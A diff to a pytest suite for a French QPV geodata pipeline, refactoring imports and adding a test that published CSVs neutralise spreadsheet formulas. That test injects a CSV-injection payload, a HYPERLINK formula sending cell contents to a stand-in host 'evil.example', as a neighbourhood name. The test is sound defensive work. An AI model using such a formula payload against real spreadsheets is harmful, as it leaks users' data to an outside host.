@@ -10,10 +10,13 @@ import geopandas as gpd
 import pandas as pd
 import psycopg
 import pytest
-from qpvhub.db import connect
-from qpvhub.indicators import run_indicators
-from qpvhub.pipeline import Env, ingest
+
+from qpvhub.indicators.runner import run_indicators
+from qpvhub.ingest.pipeline import ingest
+from qpvhub.platform.db import connect
+from qpvhub.platform.env import Env
 from qpvhub.publish import publish_region
+from tests.conftest import LISTS
 
 pytestmark = pytest.mark.postgis
 
@@ -21,7 +24,7 @@ pytestmark = pytest.mark.postgis
 def _load_all(env, catalog) -> None:
     for sid in ("cog_communes", "qpv_2015"):
         assert ingest(env, catalog[sid], sample=True).status == "success"
-    run_indicators(env.uri, env.settings.sql_dir)
+    run_indicators(env)
 
 
 def test_indicator_area_matches_postgis_and_is_documented(env, catalog) -> None:
@@ -41,7 +44,7 @@ def test_indicator_area_matches_postgis_and_is_documented(env, catalog) -> None:
 
 
 def test_missing_source_means_absent_indicator_not_zero(env) -> None:
-    written = run_indicators(env.uri, env.settings.sql_dir)
+    written = run_indicators(env)
     with connect(env.uri) as conn:
         n = conn.execute("SELECT count(*) FROM mart.qpv_indicator").fetchone()[0]
     assert set(written.values()) == {0} and "superficie_ha" in written and n == 0
@@ -49,20 +52,22 @@ def test_missing_source_means_absent_indicator_not_zero(env) -> None:
 
 def test_mart_suite_blocks_implausible_values_and_keeps_the_previous_mart(env, catalog, tmp_path) -> None:
     """An indicator out of its plausible range (a family written in m² instead of ha) changes nothing."""
+    import dataclasses
     import shutil
 
-    from qpvhub.errors import ValidationFailed
+    from qpvhub.platform.errors import ValidationFailed
 
     _load_all(env, catalog)
     with connect(env.uri) as conn:
         before = conn.execute("SELECT code_qp, value FROM mart.qpv_indicator ORDER BY 1").fetchall()
     sql_dir = tmp_path / "sql"
     shutil.copytree(env.settings.sql_dir, sql_dir)
+    (tmp_path / "include").symlink_to(env.settings.include_dir)
     family = sql_dir / "indicators" / "geographie.sql"
     family.write_text(family.read_text(encoding="utf-8").replace("ST_Area(q.geom) / 10000", "ST_Area(q.geom)"),
                       encoding="utf-8")
     with pytest.raises(ValidationFailed, match=r"superficie_ha within its plausible range \[1.0, 2000.0\] ha"):
-        run_indicators(env.uri, sql_dir)
+        run_indicators(dataclasses.replace(env, settings=env.settings.model_copy(update={"project": tmp_path})))
     with connect(env.uri) as conn:
         after = conn.execute("SELECT code_qp, value FROM mart.qpv_indicator ORDER BY 1").fetchall()
         left = conn.execute("SELECT count(*) FROM pg_tables WHERE schemaname = 'staging'").fetchone()[0]
@@ -133,7 +138,7 @@ def test_republishing_unchanged_data_creates_no_version(env, catalog, regions) -
 
 def test_region_without_qpv_fails_clearly(env, catalog, regions) -> None:
     _load_all(env, catalog)
-    from qpvhub.errors import QpvhubError
+    from qpvhub.platform.errors import QpvhubError
 
     with pytest.raises(QpvhubError, match=r"region 52: no QPV in ref.qpv for départements \['44'"):
         publish_region(env, regions["52"])
@@ -159,7 +164,7 @@ def test_publish_over_s3_protocol(db_uri, qpvhub_home, s3_store_conn, catalog, r
 def _load_demo(env, catalog) -> None:
     for sid in ("cog_communes", "qpv_2015", "sigville_demo", "sigville_ipro"):
         assert ingest(env, catalog[sid], sample=True).status == "success"
-    run_indicators(env.uri, env.settings.sql_dir)
+    run_indicators(env)
 
 
 def test_products_per_departement_french_csv_and_catalog(env, catalog, regions) -> None:
@@ -227,14 +232,14 @@ def test_statistical_secrecy_on_the_real_figures(env, catalog, regions) -> None:
 
 
 def test_final_check_refuses_an_extract_with_a_small_count(env, catalog, regions) -> None:
-    from qpvhub.errors import QpvhubError
-    from qpvhub.indicators import load_families
+    from qpvhub.indicators.families import load_families
+    from qpvhub.platform.errors import QpvhubError
     from qpvhub.publish import check_secrecy, read_profile, secrecy_rules
 
     _load_demo(env, catalog)
     families = load_families(env.settings.sql_dir)
     with connect(env.uri) as conn:
-        gdf, _, _ = read_profile(conn, regions["53"], families, 11)
+        gdf, _, _ = read_profile(conn, regions['53'], families, 11, LISTS)
     gdf.loc[gdf.code_qp == "QP035006", "population"] = 7.0  # a leak the suppression would never make
     with pytest.raises(QpvhubError, match=r"(?s)statistical secrecy check failed \(threshold 11\).*"
                                           r"expect_column_values_to_be_between on 'population'"):
@@ -249,7 +254,7 @@ def test_two_regions_in_one_deployment_do_not_mix(env, catalog, regions) -> None
     """The national SIG Ville file keeps both regions' QPV in src (region_filter on 52 and 53); each
     region's products hold only its own départements. Only Ille-et-Vilaine's perimeters exist offline,
     so region 52 has no product and says why, without touching region 53's."""
-    from qpvhub.errors import QpvhubError
+    from qpvhub.platform.errors import QpvhubError
 
     _load_demo(env, catalog)
     with psycopg.connect(env.uri) as conn:
@@ -263,3 +268,26 @@ def test_two_regions_in_one_deployment_do_not_mix(env, catalog, regions) -> None
     csv = pd.read_csv(root / "53" / "qpv_profil" / "latest" / "qpv_profil_53.csv", dtype={"dep": str})
     assert set(csv["dep"]) == {"35"} and csv["code_qp"].str.startswith("QP035").all()
     assert publish_region(env, regions["53"]).version == res53.version  # untouched by the failed region
+
+
+def test_a_qpv_name_that_starts_a_formula_is_neutralised_in_every_published_csv(env, catalog, regions) -> None:
+    """A name such as `=HYPERLINK(…)` (a hostile or broken source) reaches no spreadsheet as a formula: every CSV
+    of the version writes it after an apostrophe, the package states the rule, the HTML escapes it."""
+    for sid in ("cog_communes", "qpv_2015", "sigville_demo"):
+        for release in sorted(catalog[sid].series.samples) if catalog[sid].series else [None]:
+            assert ingest(env, catalog[sid], sample=True, release=release).status == "success"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Maurepas")'
+    with psycopg.connect(env.uri) as conn:
+        conn.execute("UPDATE ref.qpv SET lib_qp = %s WHERE code_qp = 'QP035001'", (hostile,))
+    run_indicators(env)
+    publish_region(env, regions["53"])
+    latest = env.settings.store.path / "published" / "53" / "qpv_profil" / "latest"
+    csvs = sorted(latest.glob("*.csv"))
+    assert any(p.name.endswith("_series.csv") for p in csvs) and any(p.name.endswith(".fr.csv") for p in csvs)
+    for path in csvs:
+        text = path.read_text(encoding="utf-8-sig")
+        if "HYPERLINK" in text:
+            assert "'=HYPERLINK" in text and not any(cell.startswith("=") for line in text.splitlines()
+                                                     for cell in line.replace(";", ",").split(",")), path.name
+    pkg = json.loads((latest / "datapackage.json").read_text(encoding="utf-8"))
+    assert "apostrophe" in pkg["qpvhub"]["csv_formulas"]
